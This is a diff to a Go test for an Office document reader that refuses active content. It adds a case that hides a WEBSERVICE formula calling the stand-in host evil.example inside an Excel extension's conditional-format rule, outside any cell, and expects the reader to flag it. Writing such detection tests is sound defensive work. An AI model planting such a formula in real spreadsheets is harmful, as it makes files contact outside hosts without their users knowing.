@@ -40,6 +40,19 @@ func TestReadRefusalsOnePerCause(t *testing.T) {
 		{"custom XML with a script", func(t *testing.T) []byte {
 			return rewriteZip(t, filled, nil, map[string][]byte{"customXml/item1.xml": []byte(`<root><script>run()</script></root>`)})
 		}, reporting.ProblemActive, "", "customXml/item1.xml"},
+		// Excel 2010's conditional formats keep their formula in a bare
+		// <xm:f>, outside any cell: checked like the others.
+		{"an extension's conditional format that calls out", func(t *testing.T) []byte {
+			return rewriteZip(t, filled, func(name string, body []byte) []byte {
+				if name != "xl/worksheets/sheet1.xml" {
+					return body
+				}
+				ext := `<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">` +
+					`<x14:conditionalFormattings xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:conditionalFormatting><x14:cfRule type="expression" priority="1" id="{00000000-0000-0000-0000-000000000001}">` +
+					`<xm:f>WEBSERVICE("http://evil.example/")</xm:f><x14:dxf/></x14:cfRule><xm:sqref>D12</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>`
+				return bytes.Replace(body, []byte("</worksheet>"), []byte(ext+"</worksheet>"), 1)
+			}, nil)
+		}, reporting.ProblemActive, "", "WEBSERVICE"},
 		// A zip bomb whose directory says 1000 bytes: the reader only
 		// glances at docProps, so the size the directory states must not
 		// be all that is checked.
